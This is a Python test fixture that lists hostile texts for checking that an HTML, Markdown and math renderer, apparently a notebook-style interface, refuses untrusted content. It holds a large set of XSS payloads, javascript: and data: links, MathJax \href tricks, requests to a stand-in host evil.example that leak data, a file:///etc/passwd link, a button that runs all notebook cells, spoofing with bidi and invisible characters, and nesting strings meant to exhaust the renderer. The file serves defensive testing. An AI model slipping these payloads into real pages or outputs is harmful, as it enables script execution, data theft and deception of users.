"""Texts that a model, a service or a file's name may hold, and that no page may obey.

Whatever of it runs sets `hacked` on the page's window, opens a dialog or asks the host `evil.example` for
something. Used by the tests of the HTML, and by those in a browser.
"""

from __future__ import annotations

HOST = "evil.example"
RUN = "window.hacked=1"
URL = f"https://{HOST}/leak?d=1"

MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script in capitals, cut": f"<ScRiPt/x>{RUN}//",
    "script from elsewhere": f'<script src="{URL}"></script>',
    "picture that fails": f"<img src=x onerror={RUN}>",
    "picture from elsewhere": f'<img src="{URL}">',
    "picture set": f'<picture><source srcset="{URL}"><img alt=x></picture>',
    "frame": '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "frame from elsewhere": f'<iframe src="{URL}"></iframe>',
    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}/>#x"/></svg>',
    "math": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
    "details": f"<details open ontoggle={RUN}>x</details>",
    "end of the thoughts": f"</div></details><script>{RUN}</script><details open>",
    "end of everything": f"</code></pre></table></div></details></div></div><img src=x onerror={RUN}>",
    "comment": f"<!-- --!><img src=x onerror={RUN}> -->",
    "cdata": f"<![CDATA[><img src=x onerror={RUN}>]]>",
    "processing instruction": f"<?x ><img src=x onerror={RUN}>?>",
    "attribute quotes": f'" onmouseover="{RUN}" x=\'" autofocus onfocus={RUN} \'',
    "style": f'<style>@import "{URL}"; * {{ background: url({URL}) }}</style>',
    "style attribute": f'<p style="position:fixed;inset:0;background:url({URL})">x</p>',
    "style sheet": f'<link rel="stylesheet" href="{URL}"><link rel=prefetch href="{URL}">',
    "form": f'<form action="{URL}"><input autofocus onfocus={RUN}><button>Sign in</button></form>',
    "command of JupyterLab": "<button data-commandlinker-command='notebook:run-all-cells'>x</button>",
    "object": f'<object data="{URL}"></object><embed src="{URL}"><applet code=x></applet>',
    "video": f'<video src="{URL}" onerror={RUN} autoplay></video><audio src="{URL}" onerror={RUN}></audio>',
    "base and refresh": f'<base href="{URL}"><meta http-equiv=refresh content="0;url={URL}">',
    "template": f"<template><script>{RUN}</script></template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "table cell": f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    "list": f"- <script>{RUN}</script>\n  - <img src=x onerror={RUN}>",
}
LINKS = {
    "javascript": f"[x](javascript:{RUN})",
    "javascript in capitals": f"[x](JaVaScRiPt:{RUN})",
    "javascript by entities": f"[x](&#106;avascript&colon;{RUN}) [x](java&Tab;script:{RUN})",
    "javascript over lines": f"[x](java&#x0A;script:{RUN}) [x](<java\\\nscript:{RUN}>)",
    "javascript after a space": f"[x]( javascript:{RUN}) [x](<\x01javascript:{RUN}>) [x](<java\tscript:{RUN}>)",
    "javascript by percent": f"[x](javascript%3A{RUN}) [x](%6Aavascript:{RUN})",
    "javascript by reference": f"[x][r]\n\n[r]: javascript:{RUN}",
    "javascript in an autolink": f"<javascript:{RUN}>",
    "vbscript": f"[x](vbscript:{RUN}) <vbscript:{RUN}>",
    "data": f"[x](data:text/html,<script>{RUN}</script>) [x](data:text/html;base64,PHNjcmlwdD4=)",
    "file and others": "[x](file:///etc/passwd) [x](vscode://x) [x](blob:x) [x](ftp://x/y) [x](view-source:x)",
    "relative": "[x](/api/contents) [x](../tree) [x](#top) [x](//evil.example/x) [x](?token)",
    "attribute in a URL": f'[x](https://a.example/"onmouseover="{RUN}) [x](<https://a.example/"onmouseover="{RUN}>)',
    "attribute in a title": f"[x](https://a.example/ '\" onmouseover={RUN} \"')",
    "hidden host": f"[https://good.example](https://good.example@{HOST}/) [x](https://a%5C@{HOST})",
    "host by backslash": rf"[x](https://good.example\@{HOST}/) [x](https:\\{HOST})",
    "image": f"![x]({URL})",
    "image by reference": f"![x][r] ![r]\n\n[r]: {URL} 'title'",
    "image of data": "![x](data:image/svg+xml;base64,PHN2Zz4=) ![x](data:image/png;base64,iVBORw0KGgo=)",
    "image in a link": f"[![x]({URL})](https://a.example/)",
    "image with a script": f'![" onerror="{RUN}]({URL}) ![<script>{RUN}</script>]({URL})',
}
MATH = {
    "href": rf"$\href{{javascript:{RUN}}}{{x}}$ $$\href{{javascript:{RUN}}}{{x}}$$",
    "href by brackets": rf"\(\href{{javascript:{RUN}}}{{x}}\) \[\href{{javascript:{RUN}}}{{x}}\]",
    "href in a block": f"$$\n\\href{{javascript:{RUN}}}{{x}}\n$$",
    "token": rf'$\mmlToken{{mi}}[href="javascript:{RUN}"]{{x}}$',
    "style": rf"$\style{{background:url({URL})}}{{x}}$ $\bbox[background:url({URL})]{{x}}$",
    "class and id": r"$\class{jp-Button}{x}$ $\cssId{jp-main}{x}$ $\data{x=y}{z}$",
    "definition": rf"$\def\sqrt#1{{\href{{javascript:{RUN}}}{{#1}}}}$ $\sqrt{{2}}$",
    "second name": r"$\let\alpha\href \newcommand{\x}{y}$",
    "require": r"$\require{html} \unicode[x]{65} \includegraphics{x} \setOptions{a=b}$",
    "chemistry": rf"$\ce{{\\href{{javascript:{RUN}}}{{x}}}}$",
    "text": rf"$\text{{$\href{{javascript:{RUN}}}{{x}}$}}$",
    "outside of formulas": rf"5\$ \\(\href{{javascript:{RUN}}}{{x}}\\) \\[\href{{javascript:{RUN}}}{{x}}\\]",
    "environment": rf"\begin{{equation}}\href{{javascript:{RUN}}}{{x}}\end{{equation}} \ref{{x}}",
    "split by marks": rf"*$*\href{{javascript:{RUN}}}{{x}}*$* $\href{{javascript:{RUN}}}{{x}} $",
    "by entities": rf"&#36;\href{{javascript:{RUN}}}{{x}}&#36;",
    "script": f"$x<script>{RUN}</script>$ $$<img src=x onerror={RUN}>$$",
    "deep": "$" + "{" * 300 + "}" * 300 + "$ $" + r"\sqrt" * 2_000 + "2$",
}
CHARACTERS = {
    "escape sequences": "\x1b[31mred\x1b[0m \x9b2J \x1b[2J\x07\x08\x08",
    "link of a terminal": f"\x1b]8;;{URL}\x07link\x1b]8;;\x07",
    "turned around": "user\u202e\u2066// admin\u2069\u2066 `x\u202e\u2066y`",
    "invisible": "a\u200bb\u2060c\ufeff `d\u200be` \u00ad",
    "tags": "hi \U000e0048\U000e0049\U000e007f",
    "hidden by selectors": "\U0001f600" + "".join(chr(0xE0100 + n) for n in range(20)),
    "no characters": "\x00\ud800 \udfff\ud83d \ufffe\uffff \ufdd01\ufdd1 \r\r\n\x85\u2028\u2029\x0b\x0c",
}
STRUCTURE = {
    "unclosed code": "text\n\n```html\n<script>" + RUN + "</script>\n",
    "unclosed mark of code": f"`<img src=x onerror={RUN}>",
    "language of code": f'```"><img/src=x/onerror={RUN}>\nx\n```\n\n~~~ <b>{RUN}\nx\n~~~',
    "unclosed table": f"| a | <img src=x onerror={RUN}>\n|---|---\n| `x | y",
    "unclosed formula": f"$$\n\\frac{{<img src=x onerror={RUN}>\n\n\\[ x",
    "quotations in quotations": ">" * 5_000 + " x",
    "lists in lists": "- " * 2_000 + "x",
    "brackets": "[" * 5_000 + "x" + "](https://a.example/)" * 2_000,
    "images in images": "![" * 200 + "x" + f"]({URL})" * 200,
    "emphasis": "*a_ " * 3_000 + "**" * 3_000,
    "a wide table": "|a" * 300 + "\n" + "|-" * 300 + "\n" + "|\n" * 100,
    "formulas without end": "$x$ " * 20_000,
    "one long line": "a<b>&" * 300_000,
}
TEXTS = {
    f"{table}: {name}": text
    for table, texts in (
        ("markup", MARKUP),
        ("link", LINKS),
        ("math", MATH),
        ("characters", CHARACTERS),
        ("structure", STRUCTURE),
    )
    for name, text in texts.items()
}
